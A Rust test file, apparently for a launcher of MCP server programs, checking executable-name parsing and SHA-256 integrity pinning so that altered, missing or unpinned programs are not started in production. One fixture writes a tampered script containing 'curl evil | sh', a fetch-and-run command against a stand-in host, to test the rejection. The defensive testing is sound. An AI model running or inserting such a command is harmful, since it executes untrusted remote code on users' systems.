use super::*;

#[test]
fn declared_executables_come_from_bin_and_console_scripts() {
    let one = serde_json::json!({ "bin": "dist/index.js" });
    assert_eq!(declared_bins("@scope/tool", &one).unwrap(), ["tool"]);
    let many = serde_json::json!({ "bin": { "mcp-a": "a.js", "mcp-b": "b.js" } });
    assert_eq!(
        declared_bins("@scope/tool", &many).unwrap(),
        ["mcp-a", "mcp-b"]
    );
    assert!(declared_bins("x", &serde_json::json!({ "directories": { "bin": "b" } })).is_none());
    let ep = "[gui_scripts]\nviewer = a:b\n\n[console_scripts]\nmcp-server-time = mcp_server_time:main\nother=x:y\n";
    assert_eq!(console_scripts(ep), ["mcp-server-time", "other"]);
}

fn source(program: &str, integrity: &str) -> CommandSource {
    let artifact = Artifact::Local {
        program: program.into(),
        integrity: Integrity::parse(integrity).unwrap(),
    };
    CommandSource {
        program: program.into(),
        artifact,
        args: vec![],
        env: Default::default(),
        cwd: None,
    }
}

#[tokio::test]
async fn a_program_whose_digest_differs_is_not_started() {
    let dir = tempfile::tempdir().unwrap();
    let prog = dir.path().join("server");
    std::fs::write(&prog, b"#!/bin/sh\nexit 0\n").unwrap();
    let good = format!(
        "sha256:{}",
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
            b"#!/bin/sh\nexit 0\n"
        ))
    );
    let p = prog.display().to_string();
    assert!(
        command(
            &source(&p, &good),
            dir.path(),
            registry::Profile::Production
        )
        .await
        .is_ok()
    );
    // The file changes after it was pinned.
    std::fs::write(&prog, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
    let err = command(
        &source(&p, &good),
        dir.path(),
        registry::Profile::Production,
    )
    .await
    .unwrap_err();
    assert!(matches!(err, LaunchError::Mismatch { .. }), "{err}");
    assert!(err.to_string().contains(&good), "{err}");
    // A missing file is an error too, never a launch.
    let gone = dir.path().join("gone").display().to_string();
    assert!(
        command(
            &source(&gone, &good),
            dir.path(),
            registry::Profile::Production
        )
        .await
        .is_err()
    );
}

#[tokio::test]
async fn unpinned_programs_run_only_in_development() {
    let src = CommandSource {
        program: "/bin/true".into(),
        artifact: Artifact::Unpinned {
            program: "/bin/true".into(),
        },
        args: vec![],
        env: Default::default(),
        cwd: None,
    };
    let dir = tempfile::tempdir().unwrap();
    assert!(
        command(&src, dir.path(), registry::Profile::Production)
            .await
            .is_err()
    );
    assert!(
        command(&src, dir.path(), registry::Profile::Development)
            .await
            .is_ok()
    );
}
